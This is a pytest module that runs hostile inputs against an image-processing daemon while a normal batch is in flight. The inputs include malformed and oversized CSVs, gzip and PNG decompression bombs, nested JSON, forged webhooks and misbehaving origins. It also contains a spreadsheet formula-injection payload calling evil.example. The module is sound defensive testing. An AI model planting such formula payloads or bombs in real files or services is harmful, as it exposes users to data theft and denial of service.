"""Hostile inputs fed to a running daemon while a normal batch is processing.

Every case is a row in a table with the exact outcome it must produce (HTTP status and JSON body, inbox
report text, or an image's `status` and `error`). Around each one a normal batch of 30 photos of
1000x1000 is in flight: its last image is held at the origin by a gate that opens only once the hostile
outcome has been observed, so the batch is provably still processing when the hostile input lands. After
that the normal batch must complete with every image compressed, and /healthz must answer 200.

Two daemons run for the whole module (real aiohttp servers on 127.0.0.1, follow=True, real process pool):
`main` with the real 30 s download timeout, the inbox on and an inbound webhook secret; `images` with
`download.total_timeout` = 1 s and 3 attempts, for the image URL table (its gate is held well under 1 s).
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import random
import zlib
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any, TypeAlias, TypeVar
from urllib.parse import urlsplit

import aiohttp
import pytest
import pytest_asyncio
from aiohttp import web
from aiohttp.test_utils import TestClient, TestServer
from PIL import Image
from standardwebhooks.webhooks import Webhook

from daemon.app import build_app
from daemon.config import Settings
from daemon.testing import (
    Origin,
    bomb_png,
    eventually,
    jpeg_bytes,
    photo,
    pipeline_settings,
)

pytestmark = pytest.mark.asyncio(loop_scope="module")

Client: TypeAlias = "TestClient[web.Request, web.Application]"
T = TypeVar("T")

MB = 1024 * 1024
GB = 1024 * MB
UPLOAD_LIMIT = 20 * MB  # the default limits.max_upload_bytes
DOWNLOAD_LIMIT = 25 * MB  # the default download.max_bytes
WEBHOOK_LIMIT = 1 * MB  # the default webhooks.max_inbound_bytes
MAX_SENT = 64 * MB  # "far less than 1 GB": the limit plus socket and stream buffers, with room to recycled
DEADLINE = 30.0
NORMAL_IMAGES = 30
NORMAL_SIZE = (1000, 1000)
FINISHED = ("completed", "completed_with_errors", "failed")
PUBLIC_URL = "http://images.example"  # pipeline_settings' server.public_url
SECRET = "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw"
OTHER_SECRET = "whsec_" + "A" * 32
HEADER = b"S. No.,Product Name,Input Image Urls\n"
DEAD_URL = "http://127.0.0.1:9/never-fetched.jpg"  # rejected CSVs never reach the download stage
BOUNDARY = "hostile-boundary"
GIF_FRAMES = 3000


# --- the origin ---------------------------------------------------------------------------------


class GatedOrigin(Origin):
    """daemon.testing.Origin plus gates: `/img/<name>?gate=<token>` answers only once the test opens the gate.

    /stall keeps its behaviour (headers and 3 bytes, then nothing) but ends when the origin stops: the
    original sleeps an hour, which makes AppRunner.cleanup() wait out its 60 s shutdown timeout.
    """

    def __init__(self, files: dict[str, bytes]) -> None:
        super().__init__(files)
        self.gates: dict[str, asyncio.Event] = {}
        self.closing = asyncio.Event()

    def new_gate(self) -> str:
        token = f"gate{len(self.gates)}"
        self.gates[token] = asyncio.Event()
        return token

    def open(self, token: str) -> None:
        self.gates[token].set()

    async def _image(self, request: web.Request) -> web.Response:
        self._count(request)
        token = request.query.get("gate")
        if token:
            await self.gates[token].wait()
        return self._file(request.match_info["name"])

    async def _stall(self, request: web.Request) -> web.StreamResponse:
        self._count(request)
        response = web.StreamResponse(headers={"Content-Type": "image/jpeg"})
        await response.prepare(request)
        await response.write(b"\xff\xd8\xff")
        await self.closing.wait()
        return response

    async def stop(self) -> None:
        self.closing.set()
        for gate in self.gates.values():
            gate.set()
        await super().stop()


# --- generated files ------------------------------------------------------------------------------


def animated_gif(frames: int) -> bytes:
    """A 16x16 GIF cycling red, green, blue for `frames` frames."""
    colours = [(220, 30, 30), (30, 220, 30), (30, 30, 220)]
    images = [Image.new("RGB", (16, 16), colours[i % 3]) for i in range(frames)]
    out = io.BytesIO()
    images[0].save(out, "GIF", save_all=True, append_images=images[1:], duration=40, loop=0)
    return out.getvalue()


def truncated_jpeg() -> bytes:
    """The first half of a JPEG of seeded random pixels (deterministic, so the decoder's error is too)."""
    pixels = Image.frombytes("RGB", (400, 300), random.Random(7).randbytes(400 * 300 * 3))
    whole = jpeg_bytes(pixels)
    return whole[: len(whole) // 2]


def origin_files() -> dict[str, bytes]:
    files = {f"normal-{i}.jpg": jpeg_bytes(photo(*NORMAL_SIZE, seed=i)) for i in range(NORMAL_IMAGES)}
    bomb = bomb_png(40_000, 40_000)
    assert len(bomb) < 400_000  # a few hundred KB that would decode to 1.6 gigapixels
    files.update({
        "small.jpg": jpeg_bytes(photo(64, 48, seed=9)),
        "truncated.jpg": truncated_jpeg(),
        "bomb.png": bomb,
        "animated.gif": animated_gif(GIF_FRAMES),
    })
    return files


def csv_of(rows: list[tuple[str, str, str]]) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["S. No.", "Product Name", "Input Image Urls"])
    writer.writerows(rows)
    return out.getvalue().encode("utf-8")


# --- talking to a daemon ----------------------------------------------------------------------------


@dataclass
class Daemon:
    client: Client
    settings: Settings
    origin: GatedOrigin


@dataclass
class NormalBatch:
    request_id: str
    gate: str


async def status_of(client: Client, request_id: str) -> dict[str, Any]:
    response = await client.get(f"/status/{request_id}")
    assert response.status == 200, await response.text()
    body: dict[str, Any] = await response.json()
    return body


async def finished(client: Client, request_id: str) -> dict[str, Any]:
    """The status body once the request has reached a final status."""

    async def probe() -> dict[str, Any] | None:
        body = await status_of(client, request_id)
        return body if body["status"] in FINISHED else None

    return await eventually(probe, f"request {request_id} to finish", DEADLINE, interval=0.02)


def images_of(body: dict[str, Any]) -> list[dict[str, Any]]:
    return [image for product in body["products"] for image in product["images"]]


async def upload(client: Client, data: bytes, filename: str = "batch.csv") -> aiohttp.ClientResponse:
    form = aiohttp.FormData()
    form.add_field("file", data, filename=filename, content_type="text/csv")
    return await client.post("/upload", data=form)


async def accepted_id(response: aiohttp.ClientResponse) -> str:
    body = await response.json()
    assert response.status == 202, body
    return str(body["request_id"])


@asynccontextmanager
async def normal_batch(daemon: Daemon, min_done: int) -> AsyncIterator[NormalBatch]:
    """Start the normal batch and wait until it is processing (`min_done` images compressed); the gate opens on exit."""
    origin = daemon.origin
    gate = origin.new_gate()
    rows = [(f"N{i + 1}", f"Normal product {i + 1}", f"{origin.url}/img/normal-{i}.jpg") for i in range(NORMAL_IMAGES)]
    rows[-1] = (rows[-1][0], rows[-1][1], f"{rows[-1][2]}?gate={gate}")
    request_id = await accepted_id(await upload(daemon.client, csv_of(rows), "normal.csv"))
    batch = NormalBatch(request_id, gate)
    try:
        async def busy() -> bool:
            body = await status_of(daemon.client, request_id)
            return body["status"] == "processing" and body["progress"]["done"] >= min_done

        await eventually(busy, f"the normal batch to be processing with {min_done} image(s) done", DEADLINE, interval=0.02)
        yield batch
    finally:
        origin.open(gate)


async def assert_still_processing(daemon: Daemon, batch: NormalBatch) -> dict[str, Any]:
    """The normal batch has not finished: the hostile outcome was produced while it was in flight."""
    body = await status_of(daemon.client, batch.request_id)
    assert body["status"] == "processing" and body["progress"]["pending"] >= 1, body["progress"]
    return body


async def assert_normal_batch_completed(daemon: Daemon, batch: NormalBatch) -> None:
    """The normal batch completed: every image a smaller 1000x1000 JPEG the daemon serves; /healthz answers 200."""
    client = daemon.client
    body = await finished(client, batch.request_id)
    assert body["status"] == "completed"
    assert body["progress"] == {"images": NORMAL_IMAGES, "done": NORMAL_IMAGES, "failed": 0, "pending": 0}
    assert [p["serial"] for p in body["products"]] == [f"N{i + 1}" for i in range(NORMAL_IMAGES)]
    for image in images_of(body):
        assert (image["status"], image["error"], image["attempts"], image["format"]) == (
            "compressed", None, 1, "JPEG"), image
        assert (image["width"], image["height"]) == NORMAL_SIZE
        assert image["bytes_out"] < image["bytes_in"]
        name = image["output_url"].removeprefix(f"{PUBLIC_URL}/images/")
        served = await client.get(f"/images/{name}")
        assert served.status == 200
        data = await served.read()
        assert len(data) == image["bytes_out"]
        with Image.open(io.BytesIO(data)) as out:
            assert (out.format, out.size) == ("JPEG", NORMAL_SIZE)
    healthz = await client.get("/healthz")
    assert healthz.status == 200 and await healthz.json() == {"status": "ok"}


# --- module fixtures -----------------------------------------------------------------------------------


@pytest_asyncio.fixture(loop_scope="module", scope="module")
async def origin() -> AsyncIterator[GatedOrigin]:
    async with GatedOrigin(origin_files()) as server:
        yield server


@asynccontextmanager
async def running(settings: Settings, origin: GatedOrigin) -> AsyncIterator[Daemon]:
    async with TestClient(TestServer(build_app(settings, follow=True))) as client:
        yield Daemon(client, settings, origin)


@pytest_asyncio.fixture(loop_scope="module", scope="module")
async def main(origin: GatedOrigin, tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Daemon]:
    """The daemon for uploads, inbox files and webhooks: real download timeout, inbox on, inbound secret set."""
    settings = pipeline_settings(tmp_path_factory.mktemp("main"), inbox={"enabled": True, "settle_seconds": 0.1},
                                 webhooks={"inbound_secret": SECRET}, download={"total_timeout": 30.0})
    assert settings.limits.max_upload_bytes == UPLOAD_LIMIT and settings.limits.max_rows == 20_000
    async with running(settings, origin) as daemon:
        yield daemon


# --- CSV problems: the same table over HTTP and through the inbox --------------------------------------------


@dataclass(frozen=True)
class CsvProblem:
    make: Callable[[str], bytes]  # the file, given the origin's URL
    problems: tuple[tuple[int, str, str], ...]  # (line, column, reason), in order


def garbage() -> bytes:
    data = random.Random(1234).randbytes(4096)
    assert data.find(b"\x00") == 552 and data[:552].count(b"\n") == 7  # so the problem is on line 8
    return data


def too_many_rows() -> bytes:
    return HEADER + b"".join(b"%d,Product %d,http://127.0.0.1:9/%d.jpg\n" % (n, n, n) for n in range(1, 100_001))


def csv_with_name(name: str) -> bytes:
    return HEADER + b"1," + name.encode("utf-8") + b"," + DEAD_URL.encode() + b"\n"


MULTIBYTE_NAME = "\u20ac" * 40_000  # 40,000 characters, 120,000 bytes in UTF-8

CSV_PROBLEMS = [
    pytest.param(CsvProblem(lambda u: garbage(), (
        (8, "", "contains NUL bytes: this is not a text CSV file"),)), id="garbage-bytes"),
    pytest.param(CsvProblem(lambda u: too_many_rows(), (
        (20_002, "", "too many rows: the limit is 20000"),)), id="100000-rows"),
    pytest.param(CsvProblem(lambda u: csv_with_name("x" * MB), (
        (2, "", "a cell is larger than 65536 bytes"),)), id="1MB-cell"),
    pytest.param(CsvProblem(lambda u: HEADER + f"1,Caf\u00e9 cr\u00e8me,{DEAD_URL}\n".encode("latin-1"), (
        (2, "", "not valid UTF-8 (byte 0xe9 at offset 42); save the file as UTF-8"),)), id="latin-1"),
    pytest.param(CsvProblem(lambda u: b"S. No.,Product Name\n1,Shoe\n", (
        (1, "Input Image Urls",
         "missing column (header is 'S. No.,Product Name', expected S. No.,Product Name,Input Image Urls)"),)),
        id="missing-column"),
    pytest.param(CsvProblem(lambda u: csv_of([("7", "Boot", DEAD_URL), ("8", "Sock", DEAD_URL),
                                              ("7", "Hat", DEAD_URL)]), (
        (4, "S. No.", "duplicate serial number '7' (first on line 2)"),)), id="duplicate-serials"),
    pytest.param(CsvProblem(lambda u: csv_with_name(MULTIBYTE_NAME), (
        (2, "", "a cell is larger than 65536 bytes"),)), id="120KB-multibyte-cell"),
]

OVERSIZED_INBOX_FILE = pytest.param(
    CsvProblem(lambda u: HEADER + f"1,Padded,{u}/img/small.jpg\n".encode() + (b" " * 60_000 + b"\n") * 360,
               ((1, "", f"the CSV is larger than the limit of {UPLOAD_LIMIT} bytes"),)),
    id="21MB-file")


def invalid_csv(filename: str, problems: tuple[tuple[int, str, str], ...]) -> dict[str, Any]:
    return {"error": "invalid_csv", "message": f"{filename}: {len(problems)} problem(s); nothing was accepted",
            "problems": [{"line": line, "column": column, "reason": reason} for line, column, reason in problems]}


def inbox_report(filename: str, problems: tuple[tuple[int, str, str], ...]) -> str:
    lines = [f"line {line}" + (f", column {column!r}" if column else "") + f": {reason}"
             for line, column, reason in problems]
    return "\n".join([f"{filename} was rejected: {len(problems)} problem(s). Nothing from it was accepted.", "",
                      *lines, "", "Fix the file and drop it into the inbox again."]) + "\n"


@pytest.mark.parametrize("case", CSV_PROBLEMS)
async def test_invalid_csv_upload_is_refused_with_every_problem(main: Daemon, case: CsvProblem,
                                                                request: pytest.FixtureRequest) -> None:
    """An invalid CSV uploaded mid-batch answers 400 invalid_csv naming each problem's line, column and reason."""
    filename = f"{request.node.callspec.id}.csv"
    async with normal_batch(main, min_done=1) as batch:
        response = await upload(main.client, case.make(main.origin.url), filename)
        body = await response.json()
        await assert_still_processing(main, batch)
    assert (response.status, body) == (400, invalid_csv(filename, case.problems))
    await assert_normal_batch_completed(main, batch)


@pytest.mark.parametrize("case", [*CSV_PROBLEMS, OVERSIZED_INBOX_FILE])
async def test_invalid_inbox_file_is_rejected_with_a_report(main: Daemon, case: CsvProblem,
                                                           request: pytest.FixtureRequest) -> None:
    """An invalid CSV dropped in the inbox mid-batch moves to rejected/ unchanged, beside a report of each problem."""
    filename = f"{request.node.callspec.id}.csv"
    folder = main.settings.path("inbox")
    data = case.make(main.origin.url)
    async with normal_batch(main, min_done=1) as batch:
        temporary = folder / f".{filename}.tmp"  # hidden while written, then renamed in: an atomic drop
        temporary.write_bytes(data)
        os.replace(temporary, folder / filename)

        async def outcome() -> list[Path]:
            return [*(folder / "rejected").glob(f"*--{filename}"), *(folder / "archive").glob(f"*--{filename}")]

        (moved,) = await eventually(outcome, f"{filename} to be rejected or archived", DEADLINE, interval=0.02)
        await assert_still_processing(main, batch)
    assert moved.parent.name == "rejected", f"{filename} was accepted and archived"
    assert moved.read_bytes() == data
    report = moved.with_name(moved.name + ".errors.txt").read_text(encoding="utf-8")
    assert report == inbox_report(filename, case.problems)
    assert not (folder / filename).exists() and not list((folder / ".claimed").iterdir())
    await assert_normal_batch_completed(main, batch)


# --- bodies refused by size, without being read ------------------------------------------------------------


@dataclass
class Sent:
    bytes: int = 0


async def filler(sent: Sent, total: int) -> AsyncIterator[bytes]:
    """`total` bytes of CSV-ish filler in 1 MB chunks, counting what the client actually handed to the socket."""
    chunk = b"1,x,http://a.example/x.jpg\n" * (MB // 27) + b"\n" * (MB % 27)
    while sent.bytes < total:
        sent.bytes += len(chunk)
        yield chunk


async def form_fields(sent: Sent, total: int) -> AsyncIterator[bytes]:
    """A multipart body of ~8 KB form fields with distinct names (never a 'file' part), up to `total` bytes."""
    number = 0
    while sent.bytes < total:
        part = (f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"field{number}\"\r\n\r\n".encode()
                + b"v" * 8000 + b"\r\n")
        number += 1
        sent.bytes += len(part)
        yield part
    yield f"--{BOUNDARY}--\r\n".encode()


async def gzip_bomb(sent: Sent, total: int) -> AsyncIterator[bytes]:
    """A gzip stream of `total` zero bytes (about 1/1000 of that compressed), made as it is sent."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, 31)
    offered = 0
    while offered < total:
        offered += MB
        if chunk := compressor.compress(bytes(MB)):
            sent.bytes += len(chunk)
            yield chunk
    tail = compressor.flush()
    sent.bytes += len(tail)
    yield tail


@dataclass(frozen=True)
class Oversized:
    body: Callable[[Sent, int], AsyncIterator[bytes]]
    headers: dict[str, str]
    total: int  # how much the body holds (uncompressed)
    declared: bool  # send Content-Length: total, else chunked
    sent: tuple[int, int]  # the bounds of what the client can have sent before the 413


TOO_LARGE_CSV = {"error": "too_large", "message": f"the CSV is larger than the limit of {UPLOAD_LIMIT} bytes",
                 "limit": UPLOAD_LIMIT}
CSV_TYPE = {"Content-Type": "text/csv"}

OVERSIZED_UPLOADS = [
    # Refused on the header alone: not even the limit's worth can have been read.
    pytest.param(Oversized(filler, CSV_TYPE, GB, declared=True, sent=(0, UPLOAD_LIMIT)), id="1GB-content-length"),
    # Read up to the limit, then refused.
    pytest.param(Oversized(filler, CSV_TYPE, GB, declared=False, sent=(UPLOAD_LIMIT + 1, MAX_SENT)), id="1GB-chunked"),
    # 1 GB once inflated by the server; the limit applies to the inflated bytes.
    pytest.param(Oversized(gzip_bomb, {**CSV_TYPE, "Content-Encoding": "gzip"}, GB, declared=False,
                           sent=(0, 2 * MB)), id="1GB-gzip-bomb"),
    # 128 MB, not 1 GB: today the daemon reads it all and keeps it in memory, which 1 GB would make slow and heavy.
    pytest.param(Oversized(form_fields, {"Content-Type": f"multipart/form-data; boundary={BOUNDARY}"}, 128 * MB,
                           declared=False, sent=(UPLOAD_LIMIT + 1, MAX_SENT)),
                 id="128MB-chunked-multipart-of-form-fields"),
]


@pytest.mark.parametrize("case", OVERSIZED_UPLOADS)
async def test_oversized_upload_is_refused_without_reading_it(main: Daemon, case: Oversized) -> None:
    """An oversized upload mid-batch answers 413 too_large after the client could send far less than it offered."""
    sent = Sent()
    headers = dict(case.headers)
    if case.declared:
        headers["Content-Length"] = str(case.total)
    async with normal_batch(main, min_done=1) as batch:
        response = await main.client.post("/upload", data=case.body(sent, case.total), headers=headers)
        body = await response.json()
        await assert_still_processing(main, batch)
    assert response.status == 413, body
    low, high = case.sent
    assert low <= sent.bytes <= high, f"{sent.bytes} bytes were sent"
    assert body == TOO_LARGE_CSV
    await assert_normal_batch_completed(main, batch)


# --- formulas in product names ---------------------------------------------------------------------------------


FORMULA_NAMES = ('=HYPERLINK("http://evil.example/steal","click me")', "+1", "-2", "@x")


async def test_formula_product_names_are_accepted_and_neutralised_in_the_export(main: Daemon) -> None:
    """Product names starting =, +, - or @ are accepted mid-batch and exported with a leading apostrophe."""
    small = f"{main.origin.url}/img/small.jpg"
    data = csv_of([(f"F{n}", name, small) for n, name in enumerate(FORMULA_NAMES, start=1)])
    async with normal_batch(main, min_done=1) as batch:
        response = await upload(main.client, data, "formulas.csv")
        ack = await response.json()
        assert response.status == 202, ack
        request_id = ack["request_id"]
        body = await finished(main.client, request_id)
        export = await main.client.get(f"/export/{request_id}")
        text = await export.text()
        await assert_still_processing(main, batch)
    assert ack == {"request_id": request_id, "status": "queued", "products": 4, "images": 4,
                   "status_url": f"{PUBLIC_URL}/status/{request_id}"}
    assert body["status"] == "completed"
    assert [p["product_name"] for p in body["products"]] == list(FORMULA_NAMES)  # stored as given
    assert export.status == 200 and export.content_type == "text/csv"
    assert list(csv.reader(io.StringIO(text))) == [
        ["S. No.", "Product Name", "Input Image Urls", "Output Image Urls"],
        *([f"F{n}", f"'{name}", small, f"{PUBLIC_URL}/images/{request_id}_F{n}_0.jpg"]
          for n, name in enumerate(FORMULA_NAMES, start=1)),
    ]
    await assert_normal_batch_completed(main, batch)


# --- inbound webhooks ---------------------------------------------------------------------------------------------


def notification(request_id: str) -> bytes:
    return json.dumps({"image_id": request_id, "status": "completed",
                       "output_images": ["http://x.example/a.jpg"]}).encode()


def signed(body: bytes, secret: str, msg_id: str = "msg_hostile") -> dict[str, str]:
    when = datetime.now(UTC)
    return {"webhook-id": msg_id, "webhook-timestamp": str(int(when.timestamp())),
            "webhook-signature": Webhook(secret).sign(msg_id, when, body.decode()),
            "Content-Type": "application/json"}


@dataclass(frozen=True)
class WebhookCase:
    send: Callable[[str, Sent], tuple[bytes | AsyncIterator[bytes], dict[str, str]]]  # (request id, counter)
    status: int
    body: dict[str, Any]


async def spaces(sent: Sent, total: int) -> AsyncIterator[bytes]:
    yield b"{"
    while sent.bytes < total:
        sent.bytes += MB
        yield b" " * MB


NESTED_JSON = b"[" * 100_000 + b"]" * 100_000
TOO_LARGE_NOTIFICATION = {"error": "too_large", "message": f"notification over {WEBHOOK_LIMIT} bytes",
                          "limit": WEBHOOK_LIMIT}

WEBHOOK_CASES = [
    pytest.param(WebhookCase(
        lambda rid, sent: (b"{" + b" " * (2 * MB) + b"}", {"Content-Type": "application/json"}),
        413, TOO_LARGE_NOTIFICATION), id="oversized-2MB"),
    pytest.param(WebhookCase(
        lambda rid, sent: (spaces(sent, GB), {"Content-Type": "application/json"}),
        413, TOO_LARGE_NOTIFICATION), id="oversized-1GB-chunked"),
    pytest.param(WebhookCase(
        lambda rid, sent: (NESTED_JSON, signed(NESTED_JSON, SECRET)),
        400, {"error": "invalid_notification", "message": (
            "malformed JSON: maximum recursion depth exceeded while decoding a JSON array from a unicode string")}),
        id="signed-deeply-nested-json"),
    pytest.param(WebhookCase(
        lambda rid, sent: (notification(rid), {"Content-Type": "text/plain"}),
        415, {"error": "unsupported_media_type",
              "message": "notifications must be application/json, not 'text/plain'"}),
        id="wrong-content-type"),
    pytest.param(WebhookCase(
        lambda rid, sent: (notification(rid), signed(notification(rid), OTHER_SECRET)),
        401, {"error": "invalid_signature",
              "message": "Standard Webhooks signature check failed: No matching signature found"}),
        id="bad-signature"),
    pytest.param(WebhookCase(
        lambda rid, sent: (notification(rid), {"Content-Type": "application/json"}),
        401, {"error": "invalid_signature",
              "message": "Standard Webhooks signature check failed: Missing required headers"}),
        id="unsigned"),
]


@pytest.mark.parametrize("case", WEBHOOK_CASES)
async def test_hostile_webhook_is_refused(main: Daemon, case: WebhookCase) -> None:
    """A hostile notification mid-batch (oversized, wrong type, bad signature) gets its exact JSON error, unrecorded."""
    sent = Sent()
    async with normal_batch(main, min_done=1) as batch:
        data, headers = case.send(batch.request_id, sent)
        response = await main.client.post("/webhook", data=data, headers=headers)
        body = await response.json()
        status = await assert_still_processing(main, batch)
    assert response.status == case.status, body
    assert sent.bytes <= MAX_SENT, f"{sent.bytes} bytes were sent"
    assert body == case.body
    assert status["notifications"] == []
    await assert_normal_batch_completed(main, batch)
    assert (await status_of(main.client, batch.request_id))["notifications"] == []


# --- image URLs: one hostile batch on a daemon with a 1 s download timeout ----------------------------------------


@dataclass(frozen=True)
class ImageCase:
    path: str
    status: str
    error: str | None
    hits: int | None = None  # how many times the origin was asked for it


IMAGE_CASES = [
    pytest.param(ImageCase("/code/404", "failed", "download failed: HTTP 404 Not Found", hits=1), id="404"),
    pytest.param(ImageCase("/code/500", "failed",
                           "download failed: HTTP 500 Internal Server Error (after 3 attempts)", hits=3),
                 id="500-forever"),
    pytest.param(ImageCase("/stall", "failed",
                           "download failed: timed out (connect 1 s, total 1 s) (after 3 attempts)", hits=3),
                 id="stall-after-headers"),
    pytest.param(ImageCase("/loop", "failed", "download failed: too many redirects (more than 5)", hits=6),
                 id="redirect-loop"),
    pytest.param(ImageCase("/huge?mb=300", "failed",
                           f"download failed: image is over the limit of {DOWNLOAD_LIMIT} bytes", hits=1),
                 id="300MB-body"),
    pytest.param(ImageCase("/code/302", "failed",
                           "download failed: HTTP 302 Found, a redirect with no Location to follow", hits=1),
                 id="302-without-location"),
    pytest.param(ImageCase("/html", "failed", "not an image: content looks like HTML", hits=1), id="html-body"),
    pytest.param(ImageCase("/empty", "failed", "empty body (0 bytes)", hits=1), id="zero-bytes"),
    pytest.param(ImageCase("/img/truncated.jpg", "failed",
                           "truncated or corrupt image: image file is truncated (213 bytes not processed)", hits=1),
                 id="truncated-jpeg"),
    pytest.param(ImageCase("/img/bomb.png", "failed",
                           "image too large: 1,600,000,000 pixels exceeds the limit of 50,000,000", hits=1),
                 id="40000x40000-png-bomb"),
    pytest.param(ImageCase("/img/animated.gif", "kept_original", None, hits=1), id="3000-frame-gif"),
]
IMAGE_PATHS = [param.values[0].path for param in IMAGE_CASES]


@dataclass
class ImageRun:
    daemon: Daemon
    batch: NormalBatch
    normal_meanwhile: dict[str, Any]  # the normal batch's status once every hostile URL was being fetched
    hostile_id: str
    hostile: dict[str, Any]  # the hostile batch's final status

    def image(self, path: str) -> dict[str, Any]:
        return images_of(self.hostile)[IMAGE_PATHS.index(path)]


@pytest_asyncio.fixture(loop_scope="module", scope="module")
async def image_run(origin: GatedOrigin, tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[ImageRun]:
    """The normal batch, and while it is held the hostile batch, on a daemon with a 1 s download timeout."""
    settings = pipeline_settings(tmp_path_factory.mktemp("images"),
                                 download={"total_timeout": 1.0, "attempts": 3, "backoff_base": 0.01,
                                           "backoff_max": 0.05})
    assert settings.download.max_bytes == DOWNLOAD_LIMIT
    async with running(settings, origin) as daemon:
        # The gate is held while the hostile URLs start downloading, well under the 1 s timeout
        # that also applies to the gated request.
        async with normal_batch(daemon, min_done=0) as batch:
            rows = [(f"H{n}", f"Hostile {path}", f"{origin.url}{path}") for n, path in enumerate(IMAGE_PATHS, start=1)]
            hostile_id = await accepted_id(await upload(daemon.client, csv_of(rows), "hostile.csv"))

            async def all_requested() -> bool:
                return all(origin.hits[urlsplit(path).path] >= 1 for path in IMAGE_PATHS)

            await eventually(all_requested, "every hostile URL to be requested", DEADLINE, interval=0.02)
            meanwhile = await assert_still_processing(daemon, batch)
        hostile = await finished(daemon.client, hostile_id)
        yield ImageRun(daemon, batch, meanwhile, hostile_id, hostile)


@pytest.mark.parametrize("case", IMAGE_CASES)
async def test_hostile_image_url_gets_its_exact_error(image_run: ImageRun, origin: GatedOrigin,
                                                      case: ImageCase) -> None:
    """Each hostile image URL fetched mid-batch ends with its exact status and error; the normal batch is unharmed."""
    assert image_run.normal_meanwhile["status"] == "processing"
    image = image_run.image(case.path)
    assert image["input_url"] == f"{origin.url}{case.path}"
    assert (image["status"], image["error"]) == (case.status, case.error)
    if case.hits is not None:
        assert origin.hits[urlsplit(case.path).path] == case.hits
    if case.status == "failed":
        assert image["output_url"] is None and image["bytes_out"] is None
    await assert_normal_batch_completed(image_run.daemon, image_run.batch)


async def test_animated_gif_is_kept_byte_for_byte_with_every_frame(image_run: ImageRun, origin: GatedOrigin) -> None:
    """The 3000-frame GIF is served back identical, with all its frames, marked kept as is."""
    image = image_run.image("/img/animated.gif")
    assert (image["status"], image["format"], image["note"], image["ssim"]) == (
        "kept_original", "GIF", "animated image kept as is (not scored)", None)
    assert (image["width"], image["height"]) == (16, 16)
    name = image["output_url"].removeprefix(f"{PUBLIC_URL}/images/")
    assert name == f"{image_run.hostile_id}_H11_0.gif"
    served = await image_run.daemon.client.get(f"/images/{name}")
    assert served.status == 200 and served.content_type == "image/gif"
    data = await served.read()
    assert data == origin.files["animated.gif"]
    assert image["bytes_in"] == image["bytes_out"] == len(data)
    with Image.open(io.BytesIO(data)) as gif:
        assert gif.n_frames == GIF_FRAMES
    await assert_normal_batch_completed(image_run.daemon, image_run.batch)


async def test_hostile_image_batch_completes_with_errors_and_leaves_nothing_behind(image_run: ImageRun) -> None:
    """The hostile batch ends completed_with_errors (one kept, ten failed) with no partial download left on disk."""
    assert image_run.hostile["status"] == "completed_with_errors"
    assert image_run.hostile["progress"] == {"images": 11, "done": 1, "failed": 10, "pending": 0}
    settings = image_run.daemon.settings
    assert not (settings.path("work") / "bodies" / image_run.hostile_id).exists()
    outputs = sorted(p.name for p in settings.path("images").glob(f"{image_run.hostile_id}_*"))
    assert outputs == [f"{image_run.hostile_id}_H11_0.gif"]
    await assert_normal_batch_completed(image_run.daemon, image_run.batch)
